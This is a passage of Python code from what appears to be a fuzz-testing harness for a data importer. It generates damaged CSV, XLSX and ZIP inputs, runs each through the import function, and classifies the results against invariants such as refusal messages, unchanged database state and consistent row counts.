def case(kind: str, seed: int, config: Config = LONG, mutation: str | None = None) -> Case:
    """One bad file of ``kind``, the same for the same (kind, seed, config, mutation)."""
    rng = random.Random(f"{kind}:{seed}")  # a str seed is hashed with SHA-512: the same on every run
    chosen = rng.choice(MUTATIONS[kind])
    mutation = mutation or chosen
    if mutation not in MUTATIONS[kind]:
        raise ValueError(f"{mutation!r} does not apply to {kind}")
    pool = seeds(kind, random.Random(seed))
    if mutation in ARCHIVE_MUTATIONS:  # an archive to damage: the .xlsx or the .zip seed
        pool = [s for s in pool if s.fmt in ("xlsx", "zip")]
    elif mutation in ("mixed_encoding", "lying_bom"):
        pool = [s for s in pool if s.fmt in ("csv", "member", "zip")]
    s = rng.choice(pool)

    if mutation in ROW_MUTATIONS or mutation == "member_names":
        (m_member_names if mutation == "member_names" else ROW_MUTATIONS[mutation])(rng, s, config)
        out = render(s, quoting=not s.raw)
    elif mutation in ("mixed_encoding", "lying_bom"):
        how = mixed_text if mutation == "mixed_encoding" else lying_bom
        if s.kind == "cpds":
            files = [(n, how(rng, rows)) for n, rows in s.members]
            out = Case(kind, seed, mutation, s.name, s.name, zip_bytes(files) if s.fmt == "zip" else files[0][1])
            if s.fmt == "member":
                out = replace(out, name=files[0][0])
        else:
            out = Case(kind, seed, mutation, s.name, s.name, how(rng, s.rows, s.delim))
    elif mutation in BYTE_MUTATIONS:
        out = render(s)
        if out.folder is not None:  # a folder: one of its files damaged
            files = list(out.folder)
            i = rng.randrange(len(files))
            files[i] = (files[i][0], BYTE_MUTATIONS[mutation](rng, files[i][1]))
            out = replace(out, folder=tuple(files))
        else:
            out = replace(out, data=BYTE_MUTATIONS[mutation](rng, out.data))
    else:
        out = render(s)
        fn = ARCHIVE_MUTATIONS[mutation]
        out = replace(out, data=fn(rng, out, config) if fn is z_bomb else fn(rng, out))
    return replace(out, kind=kind, seed=seed, mutation=mutation, seed_file=s.name)


# ---------------------------------------------------------------- running one case

@dataclass
class Outcome:
    """What importing one case did: ``loaded``, ``refused``, ``crash`` (an exception other than FileRefused
    left ``ingest_files``) or ``violation`` (it returned, but an invariant below does not hold)."""
    status: str
    seconds: float
    detail: str = ""          # the exception type, or the invariants that failed
    where: str = ""           # crash: innermost frame in analytics/ and innermost frame overall
    message: str = ""         # crash: the exception's text; refused: the reason
    trace: str = ""
    counts: dict = field(default_factory=dict)  # rows_read, accepted, duplicates, rejected


def table_counts(engine) -> dict[str, int]:
    import sqlalchemy as sa

    from analytics.store import schema
    with engine.connect() as conn:
        return {t.name: int(conn.execute(sa.select(sa.func.count()).select_from(t)).scalar_one())
                for t in schema.metadata.sorted_tables}


def _where(exc: BaseException) -> str:
    import traceback
    frames = traceback.extract_tb(exc.__traceback__)
    ours = [f for f in frames if "/analytics/" in f.filename.replace("\\", "/")]

    def at(f) -> str:
        return f"{f.filename.rsplit('/', 1)[-1]}:{f.lineno} {f.name}"
    parts = [at(ours[-1])] if ours else []
    if frames and (not ours or frames[-1] is not ours[-1]):
        parts.append(at(frames[-1]))
    return " → ".join(parts)


def exception_name(exc: BaseException) -> str:
    """``zlib.error``, ``zipfile.BadZipFile``, ``ValueError``: the type as it is imported."""
    t = type(exc)
    return t.__qualname__ if t.__module__ == "builtins" else f"{t.__module__}.{t.__qualname__}"


def inputs_of(case: Case, workdir) -> list:
    """What ``ingest_files`` is given: (name, bytes), or the path of a folder written under ``workdir``."""
    import pathlib
    if case.folder is None:
        return [(case.name, case.data)]
    folder = pathlib.Path(workdir) / f"{case.kind}-{case.seed}" / case.name
    folder.mkdir(parents=True, exist_ok=True)
    for i, (name, data) in enumerate(case.folder):
        safe = name.replace("/", "_").replace("\\", "_").replace("\x00", "_") or f"unnamed{i}"
        (folder / safe).write_bytes(data)
    return [folder]


def invariants(case: Case, summary, before: dict, after: dict) -> list[str]:
    """The promises of DESIGN §2 that an import of any file keeps; the broken ones, in words."""
    bad = []
    if summary.files != 1:
        bad.append(f"files={summary.files}, not 1")
    if summary.refused_files:
        reason = summary.refused_files[0].get("reason", "")
        ja, _, en = reason.partition(" / ")
        if not ja.strip() or not en.strip():
            bad.append(f"refusal without a message in both languages: {reason!r}")
        if after != before:
            changed = {k: (before.get(k), v) for k, v in after.items() if before.get(k) != v}
            bad.append(f"the database changed after a refusal: {changed}")
        files = [case.data] if case.folder is None else [d for _, d in case.folder]
        if "never closed" in en and not any(b'"' in d for d in files):
            bad.append("refused for an unclosed quote, but the file holds no quote character")
        if summary.batch_ids:
            bad.append("refused and stored")
    else:
        if summary.rows_read != (summary.accepted + summary.duplicates + summary.rejected + summary.skipped
                                 + summary.companions):
            bad.append(f"rows_read {summary.rows_read} != accepted {summary.accepted} + duplicates "
                       f"{summary.duplicates} + rejected {summary.rejected} + skipped {summary.skipped} + "
                       f"companions {summary.companions}")
        if min(summary.rows_read, summary.accepted, summary.duplicates, summary.rejected, summary.companions) < 0:
            bad.append("a negative count")
        if len(summary.batch_ids) != 1:
            bad.append(f"{len(summary.batch_ids)} import batches recorded, not 1")
        if after.get("import_batches", 0) != before.get("import_batches", 0) + 1:
            bad.append("the import is not recorded in import_batches")
    return bad


def ingest_case(engine, case: Case, workdir) -> Outcome:
    """Import one case into ``engine`` and judge it (no exception leaves this function)."""
    import time
    import traceback

    from analytics.ingest import ingest_files
    before = table_counts(engine)
    items = inputs_of(case, workdir)
    start = time.perf_counter()
    try:
        summary = ingest_files(engine, case.kind, items, imported_by="fuzz")
    except Exception as exc:  # the crash being looked for: reported, not raised
        seconds = time.perf_counter() - start
        return Outcome("crash", seconds, exception_name(exc), _where(exc), str(exc)[:300],
                       "".join(traceback.format_exception(exc))[-4000:])
    seconds = time.perf_counter() - start
    bad = invariants(case, summary, before, table_counts(engine))
    if bad:
        return Outcome("violation", seconds, "; ".join(bad)[:600])
    if summary.refused_files:
        return Outcome("refused", seconds, message=summary.refused_files[0]["reason"][:300])
    return Outcome("loaded", seconds, counts={k: getattr(summary, k) for k in
                                              ("rows_read", "accepted", "duplicates", "rejected")})
